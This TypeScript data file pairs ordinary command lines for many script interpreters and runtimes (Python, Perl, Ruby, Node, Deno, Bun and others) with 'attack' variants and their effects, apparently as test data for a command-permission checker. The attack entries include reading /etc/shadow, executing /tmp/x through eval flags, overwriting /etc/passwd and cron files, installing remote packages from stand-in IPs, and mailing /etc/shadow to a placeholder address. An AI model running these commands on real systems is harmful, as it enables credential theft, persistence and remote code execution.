import type { ExampleTable } from './example.ts'

export const interpreters1: ExampleTable = {
  hy: {
    use: 'hy app.hy → read app.hy',
    attack: [
      `hy -c '(import os) (os.system "/tmp/x")' → run /tmp/x`,
      'hy /etc/shadow → read /etc/shadow',
    ],
  },
  idle: {
    use: 'idle app.py → read app.py',
    attack: [
      `idle -c 'import os; os.system("/tmp/x")' → run /tmp/x`,
      'idle /etc/shadow → read /etc/shadow',
    ],
  },
  ipython: {
    use: 'ipython app.py → read app.py',
    attack: [
      `ipython -c 'import os; os.system("/tmp/x")' → run /tmp/x`,
      'ipython /etc/shadow → read /etc/shadow',
      'ipython history clear -f → destroy ipython',
    ],
    unclear: 'ipython history trim → the history that it wipes',
  },
  python: {
    use: 'python app.py → read app.py',
    attack: [
      `python -c 'import os; os.system("/tmp/x")' → run /tmp/x`,
      'python /etc/shadow → read /etc/shadow',
    ],
  },
  a2p: { use: 'a2p app.awk → read app.awk' },
  perl: {
    use: 'perl app.pl → read app.pl',
    attack: [`perl -e 'system("/tmp/x")' → run /tmp/x`, 'perl /etc/shadow → read /etc/shadow'],
  },
  perlbug: {
    use: 'perlbug -f report.txt → read report.txt',
    attack: [
      'perlbug -e /tmp/x → run /tmp/x',
      'perlbug -a eve@example.org -f /etc/shadow → read /etc/shadow; send eve@example.org',
    ],
  },
  pl2bat: { use: 'pl2bat app.pl → read app.pl', attack: 'pl2bat /etc/shadow → read /etc/shadow' },
  pl2pm: { use: 'pl2pm app.pl → read app.pl', attack: 'pl2pm /etc/shadow → read /etc/shadow' },
  raku: {
    use: 'raku app.raku → read app.raku',
    attack: [`raku -e 'shell "/tmp/x"' → run /tmp/x`, 'raku /etc/shadow → read /etc/shadow'],
  },
  s2p: { use: 's2p app.sed → read app.sed' },
  erb: {
    use: 'erb page.erb → read page.erb',
    attack: [
      'erb /etc/shadow → read /etc/shadow',
      'erb -r /tmp/x page.erb → load /tmp/x; read page.erb',
    ],
  },
  irb: {
    use: 'irb app.rb → read app.rb',
    attack: [
      'irb /etc/shadow → read /etc/shadow',
      'irb -r /tmp/x app.rb → load /tmp/x; read app.rb',
    ],
  },
  mirb: {
    use: 'mirb app.rb → read app.rb',
    attack: [
      'mirb /etc/shadow → read /etc/shadow',
      'mirb -r /tmp/x app.rb → load /tmp/x; read app.rb',
    ],
  },
  mruby: {
    use: 'mruby app.rb → read app.rb',
    attack: ['mruby /etc/shadow → read /etc/shadow', `mruby -e 'IO.popen("/tmp/x")' → run /tmp/x`],
  },
  pry: {
    use: 'pry app.rb → read app.rb',
    attack: ['pry /etc/shadow → read /etc/shadow', `pry -e 'system("/tmp/x")' → run /tmp/x`],
  },
  ruby: {
    use: ['ruby app.rb → read app.rb', 'ruby -run -e httpd . -p 8000 → listen :8000'],
    attack: [
      `ruby -e 'system("/tmp/x")' → run /tmp/x`,
      'ruby /etc/shadow → read /etc/shadow',
      'ruby -run -e httpd . -p 31337 → listen 0.0.0.0:31337',
    ],
  },
  'babel-node': {
    use: 'babel-node app.js → read app.js',
    attack: [
      `babel-node -e 'require("child_process").execSync("/tmp/x")' → run /tmp/x`,
      'babel-node -r /tmp/x app.js → load /tmp/x; read app.js',
    ],
  },
  bun: {
    use: ['bun app.js → read app.js', 'bun -c bunfig.toml app.js → read bunfig.toml; read app.js'],
    attack: `bun -e 'require("child_process").execSync("/tmp/x")' → run /tmp/x`,
  },
  'bun add': {
    use: 'bun add zod → install bun add',
    attack: 'bun add http://192.0.2.7/x.tgz → execute ‹http://192.0.2.7/x.tgz›; install bun add',
  },
  'bun build': {
    use: 'bun build --outfile app.out.js app.ts → read app.ts; write app.out.js',
    attack: 'bun build --outfile /etc/cron.d/job app.ts → read app.ts; write /etc/cron.d/job',
  },
  'bun exec': {
    use: `bun exec 'cat notes.txt' → read notes.txt`,
    attack: `bun exec 'cat /etc/shadow' → read /etc/shadow`,
  },
  'bun install': {
    use: 'bun install → install bun install',
    attack:
      'bun install http://203.0.113.7/x.tgz → execute ‹http://203.0.113.7/x.tgz›; install bun install',
  },
  'bun repl': {
    use: 'bun repl → nothing',
    attack: `echo 'require("fs").readFileSync("/etc/shadow")' | bun repl → read /etc/shadow`,
  },
  'bun run': {
    use: 'bun run app.js → read app.js',
    attack: [
      'bun run /etc/shadow → read /etc/shadow',
      'bun run -r /tmp/x app.js → load /tmp/x; read app.js',
    ],
  },
  'bun test': {
    use: 'bun test --reporter=junit --reporter-outfile report.xml → write report.xml',
    attack: [
      'bun test --preload /tmp/x → load /tmp/x',
      'bun test --reporter=junit --reporter-outfile /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  casperjs: {
    use: 'casperjs test app.js → read app.js',
    attack: [
      'casperjs test /etc/shadow → read /etc/shadow',
      'casperjs test --xunit=/etc/cron.d/job app.js → read app.js; write /etc/cron.d/job',
    ],
  },
  d8: {
    use: 'd8 app.js → read app.js',
    attack: [
      'd8 /etc/shadow → read /etc/shadow',
      `d8 -e 'print(read("/etc/shadow"))' → read /etc/shadow`,
    ],
  },
  'deno add': { use: 'deno add npm:chalk → install deno add' },
  'deno bench': {
    use: 'deno bench -c deno.json src → read deno.json',
    attack: 'deno bench --preload /etc/shadow src → read /etc/shadow',
  },
  'deno cache': {
    use: 'deno cache https://example.com/a.ts → fetch https://example.com/a.ts',
    attack:
      'deno cache --preload /etc/shadow https://example.com/a.ts → read /etc/shadow; fetch https://example.com/a.ts',
  },
  'deno compile': {
    use: 'deno compile -o app app.ts → read app.ts; write app',
    attack: [
      'deno compile /etc/shadow → read /etc/shadow',
      'deno compile -o /etc/cron.d/job app.ts → read app.ts; write /etc/cron.d/job',
    ],
  },
  'deno coverage': {
    use: 'deno coverage --lcov --output=cov.lcov cov → write cov.lcov',
    attack: 'deno coverage --lcov --output=/etc/passwd cov → write /etc/passwd',
  },
  'deno eval': {
    use: `deno eval 'console.log(1)' → nothing`,
    attack: `deno eval 'new Deno.Command("/tmp/x").outputSync()' → run /tmp/x`,
  },
  'deno install': {
    use: 'deno install → install deno install',
    attack:
      'deno install -g -A http://203.0.113.7/x.ts → execute ‹http://203.0.113.7/x.ts›; install deno install',
  },
  'deno repl': {
    use: 'deno repl --eval-file=app.js → read app.js',
    attack: [
      `echo 'Deno.readTextFileSync("/etc/shadow")' | deno repl → read /etc/shadow`,
      `deno repl --eval 'Deno.readTextFileSync("/etc/shadow")' → read /etc/shadow`,
    ],
  },
  'deno run': {
    use: 'deno run app.ts → read app.ts',
    attack: [
      'deno run -A http://192.0.2.7/x.ts → execute ‹http://192.0.2.7/x.ts›',
      'deno run /etc/shadow → read /etc/shadow',
    ],
  },
  'deno serve': {
    use: 'deno serve app.ts → read app.ts; listen 8000',
    attack: 'deno serve /etc/shadow → read /etc/shadow; listen 8000',
  },
  'deno upgrade': {
    use: 'deno upgrade --output deno-new → write deno-new',
    attack: 'deno upgrade --output /etc/passwd → write /etc/passwd',
  },
  'deno vendor': {
    use: 'deno vendor -c deno.json app.ts → read deno.json',
    attack: 'deno vendor --preload /etc/shadow app.ts → read /etc/shadow',
  },
  duk: { use: 'duk app.js → read app.js', attack: 'duk /etc/shadow → read /etc/shadow' },
  esmo: {
    use: 'esmo app.ts → read app.ts',
    attack: [
      'esmo /etc/shadow → read /etc/shadow',
      `esmo -e 'require("child_process").execSync("/tmp/x")' → run /tmp/x`,
    ],
  },
  esrun: { use: 'esrun app.ts → read app.ts', attack: 'esrun /etc/shadow → read /etc/shadow' },
  gjs: {
    use: 'gjs app.js → read app.js',
    attack: [
      `gjs -c 'imports.gi.GLib.spawn_command_line_sync("/tmp/x")' → run /tmp/x`,
      'gjs /etc/shadow → read /etc/shadow',
    ],
  },
  jiti: { use: 'jiti app.ts → read app.ts', attack: 'jiti /etc/shadow → read /etc/shadow' },
  jjs: { use: 'jjs app.js → read app.js', attack: 'jjs /etc/shadow → read /etc/shadow' },
  jrunscript: {
    use: 'jrunscript app.js → read app.js',
    attack: [
      `jrunscript -e 'exec("/tmp/x")' → run /tmp/x`,
      'jrunscript /etc/shadow → read /etc/shadow',
    ],
  },
  jsc: {
    use: 'jsc app.js → read app.js',
    attack: [
      'jsc /etc/shadow → read /etc/shadow',
      `jsc -e 'print(readFile("/etc/shadow"))' → read /etc/shadow`,
    ],
  },
  mujs: { use: 'mujs app.js → read app.js', attack: 'mujs /etc/shadow → read /etc/shadow' },
  node: {
    use: 'node app.js → read app.js',
    attack: [
      `node -e 'require("child_process").execSync("/tmp/x")' → run /tmp/x`,
      'node /etc/shadow → read /etc/shadow',
    ],
  },
  phantomjs: {
    use: 'phantomjs app.js → read app.js',
    attack: 'phantomjs /etc/shadow → read /etc/shadow',
  },
  qjs: {
    use: 'qjs app.js → read app.js',
    attack: [`qjs -e 'os.exec(["/tmp/x"])' → run /tmp/x`, 'qjs /etc/shadow → read /etc/shadow'],
  },
  qml: {
    use: 'qml app.qml → read app.qml',
    attack: [
      'qml /etc/shadow → read /etc/shadow',
      'qml -I /tmp/lib app.qml → load /tmp/lib; read app.qml',
    ],
  },
  'sucrase-node': {
    use: 'sucrase-node app.ts → read app.ts',
    attack: 'sucrase-node /etc/shadow → read /etc/shadow',
  },
  'swc-node': {
    use: 'swc-node app.ts → read app.ts',
    attack: 'swc-node /etc/shadow → read /etc/shadow',
  },
  'tjs eval': {
    use: `tjs eval 'console.log(1)' → nothing`,
    attack: `tjs eval 'console.log(await tjs.readFile("/etc/shadow"))' → read /etc/shadow`,
  },
  'tjs run': {
    use: 'tjs run app.js → read app.js',
    attack: 'tjs run /etc/shadow → read /etc/shadow',
  },
  'ts-node': {
    use: 'ts-node app.ts → read app.ts',
    attack: [
      'ts-node /etc/shadow → read /etc/shadow',
      `ts-node -e 'require("child_process").execSync("/tmp/x")' → run /tmp/x`,
    ],
  },
  'ts-node-dev': {
    use: 'ts-node-dev app.ts → read app.ts',
    attack: [
      'ts-node-dev /etc/shadow → read /etc/shadow',
      'ts-node-dev -r /tmp/x app.ts → load /tmp/x; read app.ts',
    ],
  },
  'vite-node': {
    use: 'vite-node app.ts → read app.ts',
    attack: [
      'vite-node /etc/shadow → read /etc/shadow',
      'vite-node -c /etc/shadow app.ts → read /etc/shadow',
    ],
  },
  zx: {
    use: 'zx app.mjs → read app.mjs',
    attack: [
      `zx -e '$\`/tmp/x\`' → run /tmp/x`,
      'zx --shell=/tmp/x app.mjs → run /tmp/x; read app.mjs',
    ],
  },
  'bun create': {
    use: 'bun create vite → nothing',
    attack: 'bun create http://203.0.113.7/x.tgz → execute ‹http://203.0.113.7/x.tgz›',
  },
}
